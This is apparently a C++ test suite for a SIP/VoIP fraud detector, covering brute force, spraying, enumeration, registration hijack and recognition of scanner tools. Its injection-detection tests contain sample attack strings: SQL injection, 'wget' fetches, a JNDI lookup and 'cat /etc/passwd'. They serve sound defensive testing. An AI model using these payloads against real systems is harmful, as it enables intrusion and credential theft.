#include <catch2/catch.hpp>
#include <fmt/format.h>

#include <string>
#include <vector>

#include "analyze/fraud/fraud_analyzer.h"
#include "analyze/fraud/malformed.h"
#include "report/collector.h"
#include "session/tracker.h"
#include "support/sip_event.h"

using namespace voip;
using namespace voip::analyze::fraud;

namespace {

Endpoint end(const std::string& address, std::uint16_t port = 5060) { return {*IpAddress::parse(address), port}; }

// Requests and answers, told one after the other; what fraud-scan makes of them.
class Tale {
 public:
  explicit Tale(Options options = {})
      : collector_(kRules), analyzer_(std::move(options), collector_), tracker_({}, {}, analyzer_) {}

  Endpoint registrar = end("198.51.100.10");

  void wait(double seconds) { now_ += static_cast<std::int64_t>(seconds * 1e9); }

  struct Ask {
    std::string method = "REGISTER";
    std::string user = "1001";
    std::string answer = "401 Unauthorized";  // empty: none
    std::string login = {};                   // username of credentials; empty: none
    std::string nonce = {};                   // of the credentials; empty: a new one
    std::string challenge = {};               // nonce of the answer; empty: a new one
    bool stale = false;
    std::string agent = "Desk 1.0";
    std::string call_id = {};
    std::vector<std::string> more = {};
    std::string display = {};
    std::vector<std::string> answer_more = {};
  };
  void ask(const Endpoint& from, const Ask& a) {
    const unsigned n = ++serial_;
    const std::string call_id = a.call_id.empty() ? fmt::format("c{}@x", n) : a.call_id;
    const std::string uri =
        a.method == "REGISTER" ? std::string("sip:pbx.example") : fmt::format("sip:{}@pbx.example", a.user);
    const std::string common = fmt::format(
        "Via: SIP/2.0/UDP {};branch=z9hG4bKt{}\r\nFrom: {}<sip:{}@pbx.example>;tag=f{}\r\nTo: <sip:{}@pbx.example>\r\n"
        "Call-ID: {}\r\nCSeq: {} {}\r\n",
        from.to_string(), n, a.display, a.user, n, a.user, call_id, n, a.method);
    std::string request =
        fmt::format("{} {} SIP/2.0\r\n{}Max-Forwards: 70\r\nUser-Agent: {}\r\n", a.method, uri, common, a.agent);
    for (const std::string& line : a.more) request += line + "\r\n";
    if (a.method == "REGISTER" && a.more.empty()) {
      request += fmt::format("Contact: <sip:{}@{}>\r\n", a.user, from.to_string());
    }
    if (!a.login.empty()) {
      request += fmt::format(
          "Authorization: Digest username=\"{}\", realm=\"r\", nonce=\"{}\", uri=\"{}\", response=\"{:032x}\"\r\n",
          a.login, a.nonce.empty() ? fmt::format("n{}", n) : a.nonce, uri, n);
    }
    send(from, registrar, request + "Content-Length: 0\r\n\r\n");
    if (a.answer.empty()) return;
    std::string answer = fmt::format("SIP/2.0 {}\r\n{}", a.answer, common);
    if (a.answer.starts_with("401") || a.answer.starts_with("407")) {
      answer += fmt::format("WWW-Authenticate: Digest realm=\"r\", nonce=\"{}\"{}\r\n",
                            a.challenge.empty() ? fmt::format("m{}", n) : a.challenge, a.stale ? ", stale=true" : "");
    }
    for (const std::string& line : a.answer_more) answer += line + "\r\n";
    if (a.method == "REGISTER" && a.answer.starts_with("200") && a.answer_more.empty()) {
      answer += fmt::format("Contact: <sip:{}@{}>;expires=3600\r\n", a.user, from.to_string());
    }
    send(registrar, from, answer + "Content-Length: 0\r\n\r\n");
  }
  // Challenge and login.
  void login(const Endpoint& from, const std::string& user, bool right, const std::string& agent = "Desk 1.0",
             const std::string& call_id = {}) {
    const std::string nonce = fmt::format("k{}", ++serial_);
    ask(from, {.user = user, .challenge = nonce, .agent = agent, .call_id = call_id});
    ask(from, {.user = user,
               .answer = right ? "200 OK" : "401 Unauthorized",
               .login = user,
               .nonce = nonce,
               .agent = agent,
               .call_id = call_id});
  }

  const std::vector<Incident>& finish() {
    tracker_.finish();
    analyzer_.finish();
    return analyzer_.incidents();
  }

  void send(const Endpoint& src, const Endpoint& dst, const std::string& text) {
    dissect::SipEvent event;
    event.src = src;
    event.dst = dst;
    now_ += 10 * kNsPerMs;
    event.frame = {.input = 0, .number = ++frame_, .time = {now_}};
    test::send_sip(tracker_, parser_, text, event);
  }

 private:
  report::Collector collector_;
  FraudAnalyzer analyzer_;
  session::Tracker tracker_;
  sip::Parser parser_;
  std::int64_t now_ = 1'767'600'000'000'000'000;
  std::uint64_t frame_ = 0;
  unsigned serial_ = 0;
};

bool has(const std::vector<Incident>& incidents, Kind kind) {
  return std::ranges::any_of(incidents, [&](const Incident& one) { return one.kind == kind; });
}

const Endpoint kEvil = end("45.148.10.66");
const Endpoint kHome = end("81.20.30.7");

}  // namespace

TEST_CASE("first challenges are no failed logins, however many", "[fraud]") {
  Tale tale;
  for (int i = 0; i < 40; ++i) {
    tale.ask(kHome, {});
    tale.wait(60);
  }
  CHECK_FALSE(has(tale.finish(), Kind::kBruteForce));
}

TEST_CASE("refusals with stale=true are no failed logins", "[fraud]") {
  Tale tale;
  for (int i = 0; i < 40; ++i) {
    tale.ask(kEvil, {.login = "1001", .stale = true});
    tale.wait(7);
  }
  CHECK(tale.finish().empty());
}

TEST_CASE("an old nonce that is refused without stale is no failed login, twice from one account's two phones",
          "[fraud]") {
  Tale tale;
  for (int i = 0; i < 30; ++i) {
    for (const char* device : {"a", "b"}) {
      const std::string old = fmt::format("{}{}", device, i);
      const std::string fresh = fmt::format("{}{}", device, i + 1);
      tale.ask(kHome, {.login = "1001", .nonce = old, .challenge = fresh});
      tale.ask(kHome, {.answer = "200 OK", .login = "1001", .nonce = fresh});
    }
    tale.wait(13);
  }
  const auto& incidents = tale.finish();
  CHECK_FALSE(has(incidents, Kind::kBruteForce));
  CHECK_FALSE(has(incidents, Kind::kAccountCompromise));
}

TEST_CASE("ten refused logins in ten minutes are brute force, nine are not", "[fraud]") {
  for (const int guesses : {9, 10}) {
    Tale tale;
    tale.login(kHome, "1001", true);
    for (int i = 0; i < guesses; ++i) {
      tale.login(kEvil, "1001", false);
      tale.wait(3 + 11 * (i % 3));
    }
    CHECK(has(tale.finish(), Kind::kBruteForce) == (guesses == 10));
  }
}

TEST_CASE("the compromise names the login that was accepted, and only that account", "[fraud]") {
  Tale tale;
  tale.login(kHome, "1001", true);
  for (int i = 0; i < 12; ++i) tale.login(kEvil, "1001", false);
  for (int i = 0; i < 12; ++i) tale.login(kEvil, "1002", false);
  tale.login(kEvil, "1001", true);
  const auto& incidents = tale.finish();
  const auto found = std::ranges::find(incidents, Kind::kAccountCompromise, &Incident::kind);
  REQUIRE(found != incidents.end());
  CHECK(found->accounts == std::vector<std::string>{"1001"});
  CHECK(found->lead().severity == report::Severity::kCritical);
  const auto decisive =
      std::ranges::find_if(found->evidence, [](const auto& e) { return e.note.starts_with("decisive"); });
  REQUIRE(decisive != found->evidence.end());
  CHECK(decisive->frame.number == 4 + 24 * 4 + 3);
  const auto brute = std::ranges::find(incidents, Kind::kBruteForce, &Incident::kind);
  REQUIRE(brute != incidents.end());
  CHECK(brute->attempts == 25);
  CHECK(brute->accounts.size() == 2);
}

TEST_CASE("a phone that fails at a steady pace is a misconfigured device at any count", "[fraud]") {
  Tale tale;
  for (int i = 0; i < 200; ++i) {
    tale.login(kHome, "1005", false, "Desk 1.0", "one-dialog");
    tale.wait(30);
  }
  const auto& incidents = tale.finish();
  REQUIRE(incidents.size() == 1);
  CHECK(incidents[0].kind == Kind::kMisconfiguredDevice);
  CHECK(incidents[0].lead().severity == report::Severity::kLow);
}

TEST_CASE("a steady pace does not excuse a stranger who tries an account that is at home elsewhere", "[fraud]") {
  Tale tale;
  tale.login(kHome, "1001", true);
  for (int i = 0; i < 60; ++i) {
    tale.login(kEvil, "1001", false);
    tale.wait(30);
  }
  CHECK(has(tale.finish(), Kind::kBruteForce));
}

TEST_CASE("an office whose accounts all come back after a bad minute is left alone", "[fraud]") {
  Tale tale;
  for (int i = 0; i < 30; ++i) tale.login(kHome, fmt::format("{}", 200 + i), false, "Desk", fmt::format("d{}", i));
  tale.wait(40);
  for (int i = 0; i < 30; ++i) tale.login(kHome, fmt::format("{}", 200 + i), true, "Desk", fmt::format("d{}", i));
  CHECK(tale.finish().empty());
}

TEST_CASE("many accounts with few refusals are spraying, and one incident", "[fraud]") {
  Tale tale;
  for (int i = 0; i < 20; ++i) tale.login(kEvil, fmt::format("{}", 1000 + 3 * i), false);
  const auto& incidents = tale.finish();
  REQUIRE(incidents.size() == 1);
  CHECK(incidents[0].kind == Kind::kPasswordSpraying);
  CHECK(incidents[0].accounts.size() == 20);
}

TEST_CASE("an INVITE that is forbidden after a good login is no failed login", "[fraud]") {
  Tale tale;
  tale.login(kHome, "1001", true);
  for (int i = 0; i < 15; ++i) {
    tale.ask(kHome, {.method = "INVITE", .user = "1001", .answer = "403 Forbidden", .login = "1001"});
  }
  CHECK_FALSE(has(tale.finish(), Kind::kBruteForce));
}

TEST_CASE("an enumeration names the users that are answered otherwise", "[fraud]") {
  Tale tale;
  for (int i = 0; i < 30; ++i) {
    const bool exists = i == 7 || i == 20;
    tale.ask(kEvil, {.user = fmt::format("{}", 100 + i), .answer = exists ? "401 Unauthorized" : "404 Not Found"});
  }
  const auto& incidents = tale.finish();
  REQUIRE(incidents.size() == 1);
  CHECK(incidents[0].kind == Kind::kEnumeration);
  CHECK(incidents[0].accounts == std::vector<std::string>{"107", "120"});
  CHECK(incidents[0].attempts == 30);
  CHECK(incidents[0].messages == 30);
}

TEST_CASE("nineteen users in a minute that then log in are an office", "[fraud]") {
  Tale tale;
  for (int i = 0; i < 25; ++i) tale.login(kHome, fmt::format("{}", 300 + i), true, "Desk", fmt::format("p{}", i));
  CHECK(tale.finish().empty());
}

TEST_CASE("hosts named as monitors in the policy raise nothing", "[fraud]") {
  for (const bool listed : {false, true}) {
    Options options;
    if (listed) options.site.monitors.add(*policy::Network::parse(kEvil.address.to_string()));
    Tale tale(std::move(options));
    tale.ask(kEvil, {.method = "OPTIONS", .user = "100", .answer = "200 OK", .agent = "friendly-scanner"});
    CHECK(tale.finish().empty() == listed);
  }
}

TEST_CASE("the signs of SIPVicious are known without its name", "[fraud]") {
  session::Transaction t;
  t.method = sip::Method::kRegister;
  t.user_agent = "Grandstream GXP2160";
  t.branch = "z9hG4bK-1234567890";
  t.call_id = "618350962349812";
  CHECK(signs_of(t).structured() == Tool::kSipvicious);
  t.branch = "z9hG4bK1234567890";
  CHECK_FALSE(signs_of(t).structured());  // a decimal Call-ID alone: some phones send one
}

TEST_CASE("a tag of SIPVicious gives the user but never the password", "[fraud]") {
  CHECK(decoded_tag("313030310131323334") == "1001");
  CHECK(decoded_tag("313030313a7365637265740139393939") == "1001");
  CHECK(decoded_tag("31303031").empty());
  CHECK(decoded_tag("0f0e0d0c0b0a").empty());
}

TEST_CASE("phones with hex Call-IDs and tags are not taken for sippts", "[fraud]") {
  session::Transaction t;
  t.method = sip::Method::kRegister;
  t.call_id = "0123456789abcdef0123456789abcdef";
  t.from_tag = "01234567";
  CHECK_FALSE(signs_of(t).structured());
  const std::string branch(71, 'q');
  t.branch = branch;
  CHECK(signs_of(t).structured() == Tool::kSippts);
}

TEST_CASE("SQL is told from names with an apostrophe", "[fraud]") {
  CHECK(looks_like_sql("' or 1=1 --"));
  CHECK(looks_like_sql("1001' union select password from users"));
  CHECK_FALSE(looks_like_sql("o'brien"));
  CHECK_FALSE(looks_like_sql("support -- berlin"));
  CHECK_FALSE(looks_like_sql("sean o'casey or mary o'neill"));
}

TEST_CASE("commands are told from company names and URI parameters", "[fraud]") {
  CHECK(looks_like_shell("x;wget http://a/b"));
  CHECK(looks_like_shell("${jndi:ldap://a}"));
  CHECK(looks_like_shell("a`id`"));
  CHECK(looks_like_shell("a && cat /etc/passwd"));
  CHECK_FALSE(looks_like_shell("ernst & young"));
  CHECK_FALSE(looks_like_shell("100;phone-context=example.com"));
  CHECK_FALSE(looks_like_shell("m&&m ideas"));
  CHECK_FALSE(looks_like_shell("100;isub=1"));
}

TEST_CASE("percent signs that encode nothing stay", "[fraud]") {
  CHECK(percent_decoded("100%27") == "100'");
  CHECK(percent_decoded("100%") == "100%");
  CHECK(percent_decoded("1%zz") == "1%zz");
}

TEST_CASE("O'Brien is silent, an injection in the same field is not", "[fraud]") {
  for (const bool attack : {false, true}) {
    Tale tale;
    tale.ask(kHome, {.method = "OPTIONS", .answer = "200 OK", .display = attack ? "\"' or '1'='1\" " : "\"O'Brien\" "});
    CHECK(has(tale.finish(), Kind::kInjection) == attack);
  }
}

TEST_CASE("a second contact from another network is told, one with the same instance is not", "[fraud]") {
  for (const bool same : {false, true}) {
    Tale tale;
    const std::string instance = ";+sip.instance=\"<urn:uuid:1>\"";
    const auto bind = [&](const Endpoint& from, const std::string& more, const std::string& agent) {
      const std::string contact = fmt::format("Contact: <sip:1001@{}>{};expires=3600", from.to_string(), more);
      tale.ask(from,
               {.answer = "200 OK", .login = "1001", .agent = agent, .more = {contact}, .answer_more = {contact}});
    };
    for (int i = 0; i < 5; ++i) {
      bind(kHome, same ? instance : "", "Desk 1.0");
      tale.wait(600);
    }
    bind(kEvil, same ? instance : "", same ? "Desk 1.0" : "Other 2");
    CHECK(has(tale.finish(), Kind::kRegistrationHijack) == !same);
  }
}
